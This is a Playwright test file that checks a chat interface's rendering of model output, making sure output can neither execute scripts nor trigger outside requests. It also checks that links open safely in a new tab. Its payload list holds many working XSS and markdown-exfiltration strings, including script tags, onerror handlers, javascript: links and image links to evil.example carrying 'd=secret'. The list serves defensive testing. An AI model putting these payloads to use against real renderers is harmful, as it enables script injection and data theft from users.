"""Model output cannot run scripts, and cannot make the browser fetch anything."""

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.live.actions import ask, text_steps, wait_for_end
from tests.e2e.live.stub import LiveStub

XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>window.owned = 1</script>",
    "<script>\nwindow.owned = 1\n</script>",
    "<svg/onload=alert(1)>",
    "<iframe src='http://evil.example/'></iframe>",
    "<form action='http://evil.example/'><button>go</button></form>",
    "<style>* { background: url(http://evil.example/s) }</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "![x](http://evil.example/i.png?d=secret)",
    "![x](//evil.example/i.png)",
    "![x](v.mp4) ![y](javascript:alert(1))",
    '![x](http://evil.example/" onerror="alert(1))',
    "![x][r]\n\n[r]: http://evil.example/ref.png",
    "[![x](http://evil.example/in.png)](http://evil.example/out)",
    '[x](http://evil.example/ "t\\" onmouseover=alert(1)")',
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "```mermaid\nflowchart LR\nA@{ img: 'http://evil.example/m.png' }\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>y</b> |",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    r"$\href{javascript:alert(1)}{x_1}$ $\url{javascript:alert(1)}$ $\includegraphics{http://evil.example/i.png}_1$",
    r"$$\htmlStyle{background:url(http://evil.example/s)}{x_1} \htmlId{host}{y} \class{message}{z}$$",
    r"$x_1 < <img src=x onerror=alert(1)>$ $\text{<img src=x onerror=alert(1)>}$",
    "- [x] <input autofocus onfocus=alert(1)>",
    "`<img src=x onerror=alert(1)>` &lt;img src=x onerror=alert(1)&gt;",
    "# <div id=host class=message onclick=alert(1)>x</div>",
]


UNSAFE_ATTRIBUTES = """body => [...body.querySelectorAll("*")].flatMap(node => [...node.attributes]
  .filter(({ name, value }) => /^(on.*|id|style|src)$/.test(name)
    || (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)))
  .map(({ name, value }) => `${node.tagName} ${name}=${value}`))"""


@pytest.mark.parametrize("streamed", [True, False], ids=["streamed", "from history"])
def test_neither_runs_nor_fetches_model_output(page: Page, url: str, stub: LiveStub, streamed: bool) -> None:
    events: list[str] = []
    page.on("request", lambda request: events.append(request.url))
    page.on("dialog", lambda dialog: events.append(f"dialog {dialog.message}"))
    text = "\n\n".join(XSS)
    if streamed:
        stub.scripts["x"] = text_steps(*(text[at : at + 7] for at in range(0, len(text), 7)))
    else:
        stub.messages = [stub.message("assistant", text)]
    page.goto(url)
    if streamed:
        ask(page, "x")
        wait_for_end(page)

    body = page.locator("article .body").last
    expect(body.locator(".image-link").first).to_be_visible()

    assert [address for address in events if not address.startswith(url)] == []
    assert page.evaluate("window.owned") is None
    assert body.locator("img, script, iframe, form, style, svg:not(.icon svg), input, math a").count() == 0
    assert body.evaluate(UNSAFE_ATTRIBUTES) == []


def test_opens_links_in_a_new_tab_and_shows_their_url(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("assistant", "[safe](https://example.com/a?b) and https://example.org")]
    page.goto(url)

    link = page.get_by_role("link", name="safe")

    expect(link).to_have_attribute("title", "https://example.com/a?b")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
